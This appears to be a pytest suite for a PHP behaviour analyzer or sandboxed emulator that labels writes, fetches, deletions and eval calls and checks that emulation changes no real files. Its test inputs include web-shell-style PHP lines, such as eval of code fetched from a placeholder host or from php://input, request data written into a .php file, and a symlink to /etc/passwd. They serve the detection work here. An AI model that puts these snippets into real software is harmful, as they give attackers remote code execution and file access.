from __future__ import annotations

import pytest


def test_gives_what_php_gives(serialized, expression, expected):
    assert serialized(expression) == expected


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        (
            "file_put_contents('a.php', $_POST['c']);",
            "WRITE file_put_contents: a.php, <request $_POST['c']>",
        ),
        (
            "$f = fopen('a', 'w'); fwrite($f, 'x' . $_GET['y']);",
            "WRITE fwrite: a, x . <request $_GET['y']>",
        ),
        ("copy('http://x.example/a', 'b');", "FETCH copy: http://x.example/a"),
        ("copy('http://x.example/a', 'b');", "WRITE copy: b, <remote http://x.example/a>"),
        (
            "move_uploaded_file($_FILES['f']['tmp_name'], 'a.php');",
            "WRITE move_uploaded_file: a.php, <request an uploaded file>",
        ),
        ("symlink('/etc/passwd', 'a');", "WRITE symlink: a, /etc/passwd"),
        ("touch('a');", "WRITE touch: a, None"),
        ("unlink($_GET['f']);", "DELETE unlink: <request $_GET['f']>"),
        ("rmdir('d');", "DELETE rmdir: d"),
        (
            "eval(file_get_contents('http://x.example/a'));",
            "CODE eval: <remote http://x.example/a>",
        ),
        ("eval(file_get_contents('php://input'));", "CODE eval: <request php://input>"),
        (
            "eval(stream_get_contents(fopen('php://input', 'r')));",
            "CODE eval: <request php://input>",
        ),
        ("eval(file_get_contents('notes.txt'));", "CODE eval: <stored the file notes.txt>"),
        ("eval(implode('', file('notes.txt')));", "CODE eval: <stored the file notes.txt>"),
    ],
)
def test_acts(acts, code, expected):
    assert expected in acts(code)


@pytest.mark.parametrize(
    "path",
    [
        "__FILE__",
        "'x.php'",
        "'./x.php'",
        "basename(__FILE__)",
        "$_SERVER['SCRIPT_FILENAME']",
        "'/var/www/x.php(3) : eval()\\'d code'",
    ],
)
def test_a_program_reads_itself(emulated, path):
    code = f"preg_match('/tail:(\\w+)/', file_get_contents({path}), $m); echo $m[1]; // tail:end"
    assert emulated(code).output == b"end"


def test_what_was_written_is_read_and_run(emulated):
    code = "$t = tempnam('/tmp', 'i'); file_put_contents($t, '<?php echo 1;'); include $t;"
    assert emulated(code).output == b"1"
    code = "file_put_contents('q', 'a'); file_put_contents('q', 'b', FILE_APPEND); readfile('q');"
    assert emulated(code).output == b"ab"
    code = "$f = fopen('s', 'w'); fputs($f, 'a'); fputs($f, 'b'); fclose($f); readfile('s');"
    assert emulated(code).output == b"ab"


def test_what_was_written_in_a_branch_is_not_sure(acts):
    code = "file_put_contents('q', 'echo 1;'); if ($_GET['x']) file_put_contents('q', $_GET['x']);"
    assert "CODE eval: <request $_GET['x']>" in acts(code + " eval(file_get_contents('q'));")


def test_nothing_is_touched(emulated, tmp_path):
    emulated(
        f"file_put_contents('{tmp_path}/a', 'x'); mkdir('{tmp_path}/d'); touch('{tmp_path}/e');"
    )
    assert list(tmp_path.iterdir()) == []
    (tmp_path / "kept").write_text("secret")
    machine = emulated(f"echo file_get_contents('{tmp_path}/kept'); unlink('{tmp_path}/kept');")
    assert machine.output == b""
    assert (tmp_path / "kept").exists()
